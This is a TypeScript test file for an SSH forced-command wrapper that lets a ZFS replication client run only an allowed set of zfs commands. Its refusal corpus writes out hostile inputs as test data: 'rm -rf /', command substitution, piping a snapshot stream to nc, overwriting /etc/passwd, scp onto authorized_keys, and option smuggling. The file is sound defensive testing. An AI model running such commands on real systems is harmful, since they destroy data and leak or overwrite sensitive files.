import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Endpoint } from '../../src/exec/endpoint.js';
import { shellJoin } from '../../src/exec/quote.js';
import { type CommandResult, CommandRunner } from '../../src/exec/runner.js';
import type { Logger } from '../../src/log/logger.js';
import { bookmarkPrefix, keepBookmark } from '../../src/replication/bookmarks.js';
import { CLAIM_PROPERTY } from '../../src/replication/claim.js';
import type { Plan } from '../../src/replication/plan.js';
import { plannedSends } from '../../src/replication/sends.js';
import { commandText } from '../../src/transport/pipeline.js';
import { pipefailScript, streamStages } from '../../src/transport/stream.js';
import { ZfsHost } from '../../src/zfs/host.js';
import { getArgv, listArgv } from '../../src/zfs/listing.js';
import { PROBE_SCRIPT, parseProbe } from '../../src/zfs/probe.js';
import { sendFlags } from '../../src/zfs/stream-args.js';
import type { HostFeatures, Snapshot } from '../../src/zfs/types.js';
import { FUSE_FEATURES } from '../fakes/fake-zfs.js';

const PROJECT_ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../../..');
const SERVE = join(PROJECT_ROOT, 'bin/zfs_replicate-serve');
const REFUSED = 126;
/** By absolute path: one test runs the wrapper with a PATH that holds nothing. */
const SHELLS = ['/usr/bin/dash', '/usr/bin/bash'] as const;
const TIMEOUT = { timeout: 60_000 };

// ---- a fake source host: zfs, lz4, zstd and logger that record how they were called ----

const bin = mkdtempSync(join(tmpdir(), 'zr-serve-test-'));
const calls = join(bin, 'calls');
process.on('exit', () => rmSync(bin, { recursive: true, force: true }));

/**
 * Each fake appends one record per call to its own file (zfs and its compressor run at the same time): its
 * arguments, NUL-separated (the wrapper refuses newlines, so no argument of an accepted command holds one). zfs answers the probe's questions, decodes a resume token
 * to FAKE_TONAME, and "sends" a stream naming its arguments; FAKE_ZFS_EXIT / FAKE_CODEC_EXIT make them fail.
 */
function fake(name: string, body: string): void {
  const path = join(bin, name);
  writeFileSync(path, `#!/bin/sh\n{ printf '%s\\0' ${name} "$@"; printf '\\n'; } >>'${calls}.${name}'\n${body}\n`);
  chmodSync(path, 0o755);
}
fake(
  'zfs',
  `case "$1 \${2-}" in
  'version ') echo zfs-2.2.2-1; echo zfs-kmod-2.2.2-1 ;;
  'list -Hp') echo tank ;;
  'send -nvP')
    case " $* " in *' -t '*) printf 'resume token contents:\\nnvlist version: 0\\n\\tobject = 0x1\\n\\ttoname = %s\\n' "$FAKE_TONAME" ;; esac
    [ -n "\${FAKE_TONAME_ERROR-}" ] && { echo "$FAKE_TONAME_ERROR" >&2; exit 255; }
    printf 'size\\t4096\\n' ;;
  'send '*) printf 'STREAM(%s)' "$*" ;;
esac
exit "\${FAKE_ZFS_EXIT:-0}"`,
);
fake('lz4', `printf 'lz4['; cat; printf ']'; exit "\${FAKE_CODEC_EXIT:-0}"`);
fake('zstd', `printf 'zstd['; cat; printf ']'; exit "\${FAKE_CODEC_EXIT:-0}"`);
fake('logger', 'exit "${FAKE_LOGGER_EXIT:-0}"');

interface Call {
  program: string;
  args: string[];
}

const FAKES = ['zfs', 'lz4', 'zstd', 'logger'];

function recordedCalls(): Call[] {
  const text = FAKES.map((name) => {
    try {
      return readFileSync(`${calls}.${name}`, 'utf8');
    } catch {
      return '';
    }
  }).join('');
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => {
      const [program, ...args] = line.split('\0').slice(0, -1);
      return { program: program!, args };
    });
}

function forgetCalls(): void {
  for (const name of FAKES) rmSync(`${calls}.${name}`, { force: true });
}

interface Outcome {
  status: number | null;
  stdout: string;
  stderr: string;
  calls: Call[];
}

/** Runs the wrapper the way sshd does: prefixes as arguments, the client's command in SSH_ORIGINAL_COMMAND. */
function serve(
  shell: string,
  command: string | undefined,
  options: { prefixes?: string[]; env?: Record<string, string>; path?: string } = {},
): Outcome {
  forgetCalls();
  const env: Record<string, string> = {
    PATH: options.path ?? `${bin}:/usr/bin:/bin`,
    SSH_CLIENT: '192.0.2.7 50000 22',
    ...options.env,
  };
  if (command !== undefined) env.SSH_ORIGINAL_COMMAND = command;
  const result = spawnSync(shell, [SERVE, ...(options.prefixes ?? ['tank/vm'])], {
    env,
    encoding: 'latin1',
    timeout: 30_000,
  });
  if (result.error) throw result.error;
  return { status: result.status, stdout: result.stdout, stderr: result.stderr, calls: recordedCalls() };
}

const zfsCalls = (outcome: Outcome) => outcome.calls.filter((call) => call.program === 'zfs').map((call) => call.args);

function assertRuns(outcome: Outcome, argv: readonly string[], context: string): void {
  assert.equal(outcome.status, 0, `${context}: exit ${outcome.status}, stderr: ${outcome.stderr}`);
  assert.equal(outcome.stderr, '', context);
  assert.equal(argv[0], 'zfs', context);
  assert.deepEqual(zfsCalls(outcome).at(-1), argv.slice(1), context);
}

function assertRefused(outcome: Outcome, context: string, reason?: RegExp): void {
  assert.equal(outcome.status, REFUSED, `${context}: exit ${outcome.status}, stderr: ${outcome.stderr}`);
  assert.match(outcome.stderr, /^zfs_replicate-serve: refused: [^\n]+\n$/, `${context}: one line on stderr`);
  if (reason) assert.match(outcome.stderr, reason, context);
  assert.equal(outcome.stdout, '', context);
  const ran = outcome.calls.filter((call) => call.program !== 'logger');
  assert.deepEqual(ran, [], `${context}: nothing may run`);
}

// ---- the commands the client really sends, built by the client's own code ----

const OPENZFS: HostFeatures = {
  zfsVersion: 'zfs-2.2.2-1',
  parsableList: true,
  holdsCommand: true,
  openzfs: true,
  tools: new Set(['lz4', 'zstd', 'mbuffer']),
};
const ZFS_FUSE: HostFeatures = { ...FUSE_FEATURES, tools: new Set(['lz4']) };
const remoteEndpoint: Endpoint = {
  label: 'source',
  isRemote: true,
  wrap: () => assert.fail('not run'),
  wrapScript: () => assert.fail('not run'),
};

/** A runner that runs nothing and records the argv each ZfsHost method asks for. */
class RecordingRunner extends CommandRunner {
  readonly sent: string[][] = [];
  override async attempt(_endpoint: Endpoint, argv: readonly string[]): Promise<CommandResult> {
    this.sent.push([...argv]);
    return { exitStatus: 0, signal: undefined, stdout: '', stderr: '', spawnError: undefined, outputTooLarge: false };
  }
}

const snap = (name: string, createtxg = 10): Snapshot => ({
  name,
  guid: String(1000 + createtxg),
  createtxg,
  creation: 1_700_000_000,
  userrefs: 0,
});
const quietLog = { error() {}, warn() {}, info() {}, debug() {}, close: async () => {} } as unknown as Logger;
const HOSTILE_TAG = `backup $(touch /tmp/x); rm -rf / 'q" \`id\``;
const TOKEN = '1-e604ea4bf-e0-789c63a2a0a0a0bc8a9210808180f0d09';

/** Every non-streaming command a replication run sends to its source, for these datasets and tag. */
async function hostCommands(dataset: string, tag: string, features: HostFeatures): Promise<string[][]> {
  const runner = new RecordingRunner();
  const host = new ZfsHost(runner, remoteEndpoint, features);
  await host.state(dataset);
  await host.tree(dataset);
  await host.exists(dataset);
  await host.propertyOf(dataset, CLAIM_PROPERTY);
  await host.userProperty(CLAIM_PROPERTY, dataset);
  await host.hold(tag, dataset, 'snap 1');
  await host.release(tag, dataset, 'snap 1');
  await host.holds(dataset, ['a', 'snap 1', 'zfs-auto-snap_hourly-2024-01-01-0000']);
  // A tree's members' bases, gathered (hold-batch.ts).
  await host.holdAll(tag, [`${dataset}@a`, `${dataset}/child one@b`, `${dataset}@snap 1`]);
  await host.releaseAll(tag, [`${dataset}@a`, `${dataset}/child one@b`]);
  // A new bookmark of the base, and the destroy of the older one with this tag's prefix.
  await keepBookmark(host, dataset, tag, snap('b', 20), [snap(`${bookmarkPrefix(tag)}3`, 3)], quietLog);
  for (const send of sendArgumentLists(dataset, features)) await host.estimateSendBytes(send);
  return runner.sent;
}

/** The `zfs send` arguments of every plan kind (sends.ts), with each flag set (stream-args.ts), and a resume. */
function sendArgumentLists(dataset: string, features: HostFeatures): string[][] {
  const base = { local: snap('a'), remote: snap('a'), viaBookmark: false };
  const plans: Plan[] = [
    {
      kind: 'initial',
      first: snap('a'),
      target: snap('c', 30),
      incoming: [snap('a'), snap('b', 20), snap('c', 30)],
      skipped: [],
    },
    { kind: 'incremental', base, target: snap('c', 30), incoming: [snap('b', 20), snap('c', 30)], discard: [] },
    {
      kind: 'incremental',
      base: { ...base, remote: snap('zfs_replicate-beta-abc123-10'), viaBookmark: true },
      target: snap('c', 30),
      incoming: [snap('b', 20), snap('c', 30)],
      discard: [],
    },
    {
      kind: 'incremental',
      base: { ...base, remote: snap('made by someone else'), viaBookmark: true },
      target: snap('b', 20),
      incoming: [snap('b', 20)],
      discard: [],
    },
  ];
  const flagSets = features.openzfs
    ? [sendFlags(features, features, false), sendFlags(features, features, true), []]
    : [sendFlags(features, features, false)];
  const lists = flagSets.flatMap((flags) =>
    plans.flatMap((plan) => plannedSends(plan, dataset).map((send) => [...flags, ...send.arguments])),
  );
  if (features.openzfs) lists.push(['-t', TOKEN]);
  return lists;
}

/** The send stage as the client hands it to ssh: plain argv, or the compressing script. */
function sendStage(
  sendArguments: string[],
  features: HostFeatures,
  compress: boolean,
): { command: string; codec: string | undefined } {
  const source = new ZfsHost(new RecordingRunner(), remoteEndpoint, features);
  const sink = new ZfsHost(new RecordingRunner(), { ...remoteEndpoint, isRemote: false }, features);
  const { stages, codec } = streamStages(source, sink, ['zfs', 'send', ...sendArguments], ['zfs', 'recv', 'x'], {
    compress,
    mbufferBytes: 64 * 1024 ** 2,
  });
  // What SshEndpoint hands to ssh: shellJoin(argv) for a plain stage, the script for a compressed one.
  return { command: commandText(stages[0]!), codec };
}

// ---- tests ----

test('the probe the wrapper recognises is, character for character, the PROBE_SCRIPT the client sends', () => {
  const literal = /^readonly PROBE_SCRIPT='([^']*)'$/m.exec(readFileSync(SERVE, 'utf8'));
  assert.ok(literal, 'bin/zfs_replicate-serve defines PROBE_SCRIPT in single quotes');
  assert.equal(literal[1], PROBE_SCRIPT);
});

test('the wrapper is POSIX sh: dash and bash both parse it', TIMEOUT, () => {
  for (const shell of SHELLS) assert.equal(spawnSync(shell, ['-n', SERVE]).status, 0, shell);
  assert.match(readFileSync(SERVE, 'utf8'), /^#!\/bin\/sh\n/);
});

for (const shell of SHELLS) {
  describe(`zfs_replicate-serve under ${shell}`, () => {
    test(
      "the probe is answered by the wrapper's own copy, with what the client's script itself would print",
      TIMEOUT,
      () => {
        const outcome = serve(shell, shellJoin(['sh', '-c', PROBE_SCRIPT]));
        assert.equal(outcome.status, 0, outcome.stderr);
        forgetCalls();
        const direct = spawnSync(shell, ['-c', PROBE_SCRIPT], {
          env: { PATH: `${bin}:/usr/bin:/bin` },
          encoding: 'utf8',
        });
        // The clock line may differ by the second between the two runs; the rest must not differ at all.
        const clockless = (text: string) => text.replace(/^now=\d+\n/m, '');
        assert.equal(clockless(outcome.stdout), clockless(direct.stdout));
        assert.deepEqual(outcome.calls, recordedCalls(), 'the same zfs questions');
        const { features, clockSeconds } = parseProbe(outcome.stdout, 'source');
        assert.ok(Math.abs((clockSeconds ?? 0) - Date.now() / 1000) < 5, 'the source tells its clock');
        assert.equal(features.zfsVersion, 'zfs-2.2.2-1');
        assert.ok(features.parsableList && features.tools.has('lz4') && features.tools.has('zstd'));
      },
    );

    test(
      'every command of a run on an OpenZFS or zfs-fuse source reaches zfs with exactly its words',
      TIMEOUT,
      async () => {
        let count = 0;
        for (const features of [OPENZFS, ZFS_FUSE]) {
          for (const dataset of ['tank/vm', 'tank/vm/my data', 'tank/vm/a:b.c_d-e']) {
            for (const argv of await hostCommands(dataset, HOSTILE_TAG, features)) {
              const outcome = serve(shell, shellJoin(argv), { env: { FAKE_TONAME: `${dataset}@c` } });
              assertRuns(outcome, argv, shellJoin(argv));
              count++;
            }
          }
        }
        assert.ok(count > 50, `${count} commands`);
      },
    );

    test(
      'with --tag, every command of a run under that tag runs; another tag cannot be held or released',
      TIMEOUT,
      async () => {
        const prefixes = ['--tag', HOSTILE_TAG, '--tag', 'second', 'tank/vm'];
        for (const features of [OPENZFS, ZFS_FUSE]) {
          for (const argv of await hostCommands('tank/vm', HOSTILE_TAG, features)) {
            assertRuns(
              serve(shell, shellJoin(argv), { prefixes, env: { FAKE_TONAME: 'tank/vm@c' } }),
              argv,
              argv.join(' '),
            );
          }
        }
        const gathered = ['zfs', 'release', '--', 'second', 'tank/vm@a', 'tank/vm@b'];
        assertRuns(serve(shell, shellJoin(gathered), { prefixes }), gathered, 'the second tag, gathered');
        for (const subcommand of ['hold', 'release']) {
          for (const tag of ['other', `${HOSTILE_TAG}x`, 'secon', 'backup']) {
            const outcome = serve(shell, shellJoin(['zfs', subcommand, '--', tag, 'tank/vm@a']), { prefixes });
            assertRefused(outcome, `${subcommand} ${tag}`, /may hold and release only the tags given with --tag/);
          }
        }
      },
    );

    test('an invalid --tag in authorized_keys refuses everything', TIMEOUT, () => {
      const listing = shellJoin(listArgv('tank/vm', 'dataset'));
      for (const prefixes of [['--tag'], ['--tag', '-r', 'tank/vm'], ['--tag', '', 'tank/vm'], ['--tag', 'a']]) {
        assertRefused(
          serve(shell, listing, { prefixes }),
          prefixes.join(' '),
          /--tag in authorized_keys needs a tag|invalid --tag in authorized_keys|no datasets configured/,
        );
      }
    });

    test('the listings of OpenZFS and zfs-fuse, for one level and for the tree', TIMEOUT, () => {
      for (const argv of [
        listArgv('tank/vm', 'dataset'),
        listArgv('tank/vm', 'tree'),
        getArgv('tank/vm/x', 'dataset'),
        getArgv('tank/vm/x', 'tree'),
      ]) {
        assertRuns(serve(shell, shellJoin(argv)), argv, argv.join(' '));
      }
    });

    test('every send stage, plain and compressed with lz4 or zstd, runs zfs send with its words', TIMEOUT, () => {
      const codecs = new Set<string | undefined>();
      for (const features of [OPENZFS, ZFS_FUSE, { ...OPENZFS, tools: new Set(['zstd']) }]) {
        for (const send of sendArgumentLists('tank/vm/my data', features)) {
          for (const compress of [false, true]) {
            const { command, codec } = sendStage(send, features, compress);
            codecs.add(codec);
            const outcome = serve(shell, command, { env: { FAKE_TONAME: 'tank/vm/my data@c' } });
            assertRuns(outcome, ['zfs', 'send', ...send], command);
            const stream = `STREAM(send ${send.join(' ')})`;
            assert.equal(outcome.stdout, codec ? `${codec}[${stream}]` : stream, command);
            if (codec)
              assert.deepEqual(
                outcome.calls.find((call) => call.program === codec)?.args,
                codec === 'lz4' ? ['-1', '-c'] : ['-1', '-q', '-c'],
              );
          }
        }
      }
      assert.deepEqual([...codecs].sort(), ['lz4', 'zstd', undefined], 'both codecs and none went through');
    });

    test(
      "compressed stage: a failed send fails with the send's status although the compressor succeeds",
      TIMEOUT,
      () => {
        const command = pipefailScript(['zfs', 'send', 'tank/vm@a'], ['lz4', '-1', '-c']);
        const failed = serve(shell, command, { env: { FAKE_ZFS_EXIT: '3' } });
        assert.equal(failed.status, 3);
        assert.equal(failed.stdout, 'lz4[STREAM(send tank/vm@a)]', 'the compressor still got the stream');
        const ok = serve(shell, command);
        assert.equal(ok.status, 0);
      },
    );

    test('compressed stage: a failed compressor fails the stage when the send succeeded', TIMEOUT, () => {
      const command = pipefailScript(['zfs', 'send', 'tank/vm@a'], ['zstd', '-1', '-q', '-c']);
      assert.equal(serve(shell, command, { env: { FAKE_CODEC_EXIT: '5' } }).status, 5);
    });

    test('a resume token is decoded first and refused when it sends a snapshot outside the prefixes', TIMEOUT, () => {
      for (const command of [
        shellJoin(['zfs', 'send', '-t', TOKEN]),
        shellJoin(['zfs', 'send', '-nvP', '-t', TOKEN]),
        pipefailScript(['zfs', 'send', '-t', TOKEN], ['lz4', '-1', '-c']),
      ]) {
        for (const toname of ['tank/other@x', 'tank/vm2@x', 'tank@x']) {
          const outcome = serve(shell, command, { env: { FAKE_TONAME: toname } });
          assert.equal(outcome.status, REFUSED, command);
          assert.match(
            outcome.stderr,
            /^zfs_replicate-serve: refused: the resume token sends tank(\/other|\/vm2)?, outside the allowed datasets\n$/,
          );
          assert.deepEqual(zfsCalls(outcome), [['send', '-nvP', '-t', TOKEN]], 'only the dry run that decodes it');
        }
        const inside = serve(shell, command, { env: { FAKE_TONAME: 'tank/vm/x@y' } });
        assert.equal(inside.status, 0, inside.stderr);
        assert.equal(zfsCalls(inside).length, 2);
      }
    });

    test(
      "a token zfs cannot resume fails with zfs's own message, which the client reads to abort the receive",
      TIMEOUT,
      () => {
        const message = "cannot resume send: 'tank/vm@x' used in the initial send no longer exists";
        const outcome = serve(shell, shellJoin(['zfs', 'send', '-t', TOKEN]), {
          env: { FAKE_TONAME: 'tank/vm@x', FAKE_TONAME_ERROR: message },
        });
        assert.equal(outcome.status, 255);
        assert.match(outcome.stderr, /no longer exists/);
        assert.deepEqual(zfsCalls(outcome), [['send', '-nvP', '-t', TOKEN]]);
      },
    );

    test(
      'a command of 60 KiB (zfs holds with a thousand snapshots) is accepted, and in reasonable time',
      TIMEOUT,
      () => {
        const argv = ['zfs', 'holds', '-H'];
        while (shellJoin(argv).length < 65_000)
          argv.push(`tank/vm@zfs-auto-snap_hourly-${String(argv.length).padStart(6, '0')}`);
        argv.pop();
        assert.ok(shellJoin(argv).length > 60_000 && shellJoin(argv).length <= 65_536);
        const started = Date.now();
        assertRuns(serve(shell, shellJoin(argv)), argv, 'zfs holds');
        assert.ok(Date.now() - started < 10_000, `${Date.now() - started} ms`);
      },
    );

    describe('refused: exit 126, one line on stderr, nothing run', () => {
      const listing = shellJoin(listArgv('tank/vm', 'dataset'));
      const corpus: Array<[string, string, RegExp?]> = [
        ['destroy a snapshot', shellJoin(['zfs', 'destroy', 'tank/vm@a'])],
        ['destroy snapshots in one list', shellJoin(['zfs', 'destroy', 'tank/vm@a,b'])],
        ['destroy a range', shellJoin(['zfs', 'destroy', 'tank/vm@a%b'])],
        ['destroy the dataset', shellJoin(['zfs', 'destroy', 'tank/vm'])],
        ['destroy -r', shellJoin(['zfs', 'destroy', '-r', 'tank/vm'])],
        [
          'destroy a bookmark not ours',
          shellJoin(['zfs', 'destroy', 'tank/vm#daily']),
          /only zfs_replicate's own bookmarks/,
        ],
        [
          'create a bookmark not ours',
          shellJoin(['zfs', 'bookmark', 'tank/vm@a', 'tank/vm#daily']),
          /only zfs_replicate's own bookmarks/,
        ],
        ['destroy our bookmark and a snapshot', shellJoin(['zfs', 'destroy', 'tank/vm#zfs_replicate-x', 'tank/vm@a'])],
        ['rollback', shellJoin(['zfs', 'rollback', '-r', 'tank/vm@a'])],
        ['recv', shellJoin(['zfs', 'recv', 'tank/vm'])],
        ['recv -A', shellJoin(['zfs', 'recv', '-A', 'tank/vm'])],
        ['receive -F', shellJoin(['zfs', 'receive', '-F', 'tank/vm/x'])],
        ['set', shellJoin(['zfs', 'set', 'readonly=off', 'tank/vm'])],
        ['create', shellJoin(['zfs', 'create', 'tank/vm/x'])],
        ['create -p', shellJoin(['zfs', 'create', '-p', 'tank/vm/x'])],
        ['rename', shellJoin(['zfs', 'rename', 'tank/vm@a', 'tank/vm@b'])],
        ['snapshot', shellJoin(['zfs', 'snapshot', 'tank/vm@new'])],
        ['zpool', shellJoin(['zpool', 'destroy', 'tank'])],
        [
          'a dataset outside the prefixes',
          shellJoin(listArgv('tank/db', 'dataset')),
          /tank\/db is outside the allowed datasets \(tank\/vm\)/,
        ],
        ['the whole pool', shellJoin(listArgv('tank', 'tree')), /: tank is outside the allowed datasets \(tank\/vm\)/],
        ['the pool, zfs-fuse listing', shellJoin(getArgv('tank', 'dataset')), /: tank is outside the allowed datasets/],
        ['tank/vm2 when tank/vm is allowed', shellJoin(listArgv('tank/vm2', 'tree')), /tank\/vm2 is outside/],
        ['tank/vm2 snapshot sent', shellJoin(['zfs', 'send', 'tank/vm2@a']), /tank\/vm2 is outside/],
        [
          'an incremental reaching outside',
          shellJoin(['zfs', 'send', '-I', 'tank/vm@a', 'tank/other@b']),
          /tank\/other is outside/,
        ],
        [
          'a bookmark outside',
          shellJoin(['zfs', 'send', '-i', 'tank/other#zfs_replicate-x', 'tank/vm@b']),
          /tank\/other is outside/,
        ],
        ['a hold outside', shellJoin(['zfs', 'hold', '--', 'beta', 'tank/db@a']), /tank\/db is outside/],
        ['.. in a name', shellJoin(listArgv('tank/vm/../db', 'tree'))],
        ['; after a listing', `${listing}; rm -rf /`, /unquoted shell syntax: ;/],
        ['a multi-byte character, shown whole as ?', 'zfs destroy tank/vm@é', /unquoted shell syntax: \?\n$/],
        ['&&', `${listing} && touch /tmp/x`, /unquoted shell syntax: &/],
        ['||', `${listing} || touch /tmp/x`, /unquoted shell syntax: \|/],
        ['| sh', `${shellJoin(['zfs', 'send', 'tank/vm@a'])} | sh`, /unquoted shell syntax: \|/],
        ['| nc', `${shellJoin(['zfs', 'send', 'tank/vm@a'])} | nc 192.0.2.1 9`],
        ['| lz4 outside the template', `${shellJoin(['zfs', 'send', 'tank/vm@a'])} | lz4 -1 -c`],
        ['the template with another compressor', pipefailScript(['zfs', 'send', 'tank/vm@a'], ['gzip', '-1', '-c'])],
        ['the template with sh', pipefailScript(['zfs', 'send', 'tank/vm@a'], ['sh'])],
        ['the template around a destroy', pipefailScript(['zfs', 'destroy', 'tank/vm@a'], ['lz4', '-1', '-c'])],
        ['the template around an estimate', pipefailScript(['zfs', 'send', '-nvP', 'tank/vm@a'], ['lz4', '-1', '-c'])],
        [
          'the template with shell syntax inside',
          pipefailScript(['zfs', 'send', 'tank/vm@a'], ['lz4', '-1', '-c']).replace('tank/vm@a', 'tank/vm@a; id'),
        ],
        ['$()', 'zfs list $(touch /tmp/x)', /unquoted shell syntax: \$/],
        ['backticks', 'zfs list `touch /tmp/x`', /unquoted shell syntax: `/],
        ['> redirection', `${shellJoin(['zfs', 'send', 'tank/vm@a'])} > /etc/passwd`],
        ['>> without spaces', `${shellJoin(['zfs', 'send', 'tank/vm@a'])}>>/tmp/x`],
        ['< redirection', 'zfs recv tank/vm < /tmp/stream'],
        ['a newline between commands', `${listing}\ntouch /tmp/x`, /newline/],
        ['a newline in a quoted tag', shellJoin(['zfs', 'hold', 'a\nb', 'tank/vm@a']), /newline/],
        ['a carriage return', `${listing}\r`, /control character/],
        ['a tab', 'zfs\tlist', /control character/],
        ['DEL', `${listing}\x7f`, /control character/],
        ['-o smuggled as the dataset', shellJoin(listArgv('-o', 'dataset'))],
        ['-R smuggled as the dataset', shellJoin(getArgv('-R', 'tree'))],
        ['-- smuggled as the dataset', shellJoin(listArgv('--', 'dataset'))],
        ['an option before the snapshot of a hold', shellJoin(['zfs', 'hold', '--', 'beta', '-r', 'tank/vm@a'])],
        [
          'a tag starting with -',
          shellJoin(['zfs', 'hold', '--', '-r', 'tank/vm@a']),
          /hold tag must not be empty or start with '-'/,
        ],
        ['a release tag starting with -', shellJoin(['zfs', 'release', '--', '-r', 'tank/vm@a']), /hold tag/],
        ['an empty tag', shellJoin(['zfs', 'hold', '--', '', 'tank/vm@a']), /hold tag/],
        [
          'send -R',
          shellJoin(['zfs', 'send', '-R', 'tank/vm@a']),
          /not a command zfs_replicate sends: zfs send -R tank\/vm@a$/m,
        ],
        ['send -p', shellJoin(['zfs', 'send', '-p', 'tank/vm@a'])],
        ['send -D', shellJoin(['zfs', 'send', '-D', 'tank/vm@a'])],
        ['send -w with -L -e -c', shellJoin(['zfs', 'send', '-L', '-e', '-c', '-w', 'tank/vm@a'])],
        ['send with flags and a token', shellJoin(['zfs', 'send', '-w', '-t', TOKEN])],
        ['send of a dataset, not a snapshot', shellJoin(['zfs', 'send', 'tank/vm'])],
        ['send -I from a short name', shellJoin(['zfs', 'send', '-I', '@a', 'tank/vm@b'])],
        ['send -- ', shellJoin(['zfs', 'send', '--', 'tank/vm@a'])],
        ['a token that is not hex', shellJoin(['zfs', 'send', '-t', '1-xyz-1-2'])],
        ['holds with an option at the end', shellJoin(['zfs', 'holds', '-H', 'tank/vm@a', '-r'])],
        ['a gathered hold with an option at the end', shellJoin(['zfs', 'hold', '--', 'beta', 'tank/vm@a', '-r'])],
        ['a gathered release with a dataset', shellJoin(['zfs', 'release', '--', 'beta', 'tank/vm@a', 'tank/vm'])],
        [
          'a gathered hold with one snapshot outside',
          shellJoin(['zfs', 'hold', '--', 'beta', 'tank/vm@a', 'tank/db@a']),
          /tank\/db is outside/,
        ],
        ['a probe differing by one character', shellJoin(['sh', '-c', PROBE_SCRIPT.replace('head -n 1', 'head -n 2')])],
        ['a probe with one more command', shellJoin(['sh', '-c', `${PROBE_SCRIPT}; id`])],
        ['sh -c of anything else', shellJoin(['sh', '-c', 'id'])],
        ['an interactive-looking shell', 'bash'],
        ['scp', 'scp -t /root/.ssh/authorized_keys'],
        ['a quoted word the client writes bare', "zfs 'list'", /quoting not as zfs_replicate writes it/],
        ['double quotes', 'zfs list "tank/vm"', /unquoted shell syntax: "/],
        ['a backslash', 'zfs list tank\\/vm', /unquoted shell syntax: \\/],
        ['an unterminated quote', "zfs hold 'beta tank/vm@a", /unterminated quote/],
        ['quoting glued to a bare word', "zfs hold beta'x' tank/vm@a", /quoting not as zfs_replicate writes it/],
        ['two spaces', 'zfs  list', /exactly one space/],
        ['a leading space', ` ${listing}`, /exactly one space/],
        ['a trailing space', `${listing} `, /exactly one space/],
        ['a glob', 'zfs destroy tank/vm@*', /unquoted shell syntax: \*/],
        [
          'very long input',
          shellJoin([
            'zfs',
            'holds',
            '-H',
            ...Array.from({ length: 2000 }, (_, index) => `tank/vm@s${index}-${'x'.repeat(30)}`),
          ]),
          /longer than 65536 bytes/,
        ],
        ['a very long word', shellJoin(['zfs', 'hold', '--', 'x'.repeat(5000), 'tank/vm@a']), /longer than 4096 bytes/],
        ['an empty command (an interactive login)', '', /interactive logins are not allowed/],
      ];
      for (const [name, command, reason] of corpus) {
        test(name, TIMEOUT, () =>
          assertRefused(serve(shell, command), `${name}: ${JSON.stringify(command.slice(0, 200))}`, reason),
        );
      }

      test('no command at all (SSH_ORIGINAL_COMMAND unset: a login shell)', TIMEOUT, () => {
        assertRefused(serve(shell, undefined), 'unset', /interactive logins/);
      });

      test('no prefixes configured: everything is refused, saying why', TIMEOUT, () => {
        for (const command of [listing, shellJoin(['sh', '-c', PROBE_SCRIPT])]) {
          assertRefused(
            serve(shell, command, { prefixes: [] }),
            command,
            /no datasets configured: name the allowed dataset prefixes after the command in authorized_keys/,
          );
        }
      });

      test('an invalid prefix in authorized_keys refuses everything', TIMEOUT, () => {
        for (const prefix of ['-R', 'tank/', '/tank', 'tank/a,b', '']) {
          assertRefused(serve(shell, listing, { prefixes: ['tank/vm', prefix] }), prefix, /invalid dataset prefix/);
        }
      });
    });

    test('a second prefix allows its own tree; a prefix with a space works', TIMEOUT, () => {
      const prefixes = ['tank/vm', 'tank/my data'];
      for (const dataset of ['tank/vm', 'tank/my data', 'tank/my data/x']) {
        const argv = listArgv(dataset, 'tree');
        assertRuns(serve(shell, shellJoin(argv), { prefixes }), argv, dataset);
      }
      assertRefused(serve(shell, shellJoin(listArgv('tank/my', 'tree')), { prefixes }), 'tank/my');
    });

    test('a refusal is logged to syslog as auth.warning with tag zfs_replicate-serve', TIMEOUT, () => {
      const outcome = serve(shell, shellJoin(['zfs', 'destroy', 'tank/vm@a']));
      const logged = outcome.calls.filter((call) => call.program === 'logger');
      assert.equal(logged.length, 1);
      const args = logged[0]!.args;
      assert.deepEqual(args.slice(0, 5), ['-t', 'zfs_replicate-serve', '-p', 'auth.warning', '--']);
      assert.match(
        args[5]!,
        /^refused for 192\.0\.2\.7: not a command zfs_replicate sends: .*; command: zfs destroy tank\/vm@a$/,
      );
    });

    test('the log line shows control characters as ?, so it stays one line', TIMEOUT, () => {
      const outcome = serve(shell, 'zfs list\ntouch /tmp/x');
      assert.equal(
        outcome.calls.find((call) => call.program === 'logger')?.args[5],
        'refused for 192.0.2.7: newline in command; command: zfs list?touch /tmp/x',
      );
    });

    test('a missing or failing logger changes neither the refusal nor what the client reads', TIMEOUT, () => {
      const command = shellJoin(['zfs', 'destroy', 'tank/vm@a']);
      const withLogger = serve(shell, command);
      const failing = serve(shell, command, { env: { FAKE_LOGGER_EXIT: '1' } });
      // Only the fakes on PATH: there is no logger, and no tr either.
      const missing = serve(shell, command, { path: join(bin, 'no-such-dir') });
      for (const outcome of [failing, missing]) {
        assert.equal(outcome.status, REFUSED);
        assert.equal(outcome.stderr, withLogger.stderr);
      }
    });
  });
}

test('a NUL cannot reach the wrapper: an environment string ends at the first NUL, so none can carry one', () => {
  // sshd reads the command as a C string too (sshpkt_get_cstring refuses one holding NUL), so the refusal of
  // control characters is the wrapper's last line, never its only one.
  assert.throws(
    () => spawnSync('sh', ['-c', 'true'], { env: { SSH_ORIGINAL_COMMAND: 'zfs list\0; id' } }),
    /null bytes/,
  );
});
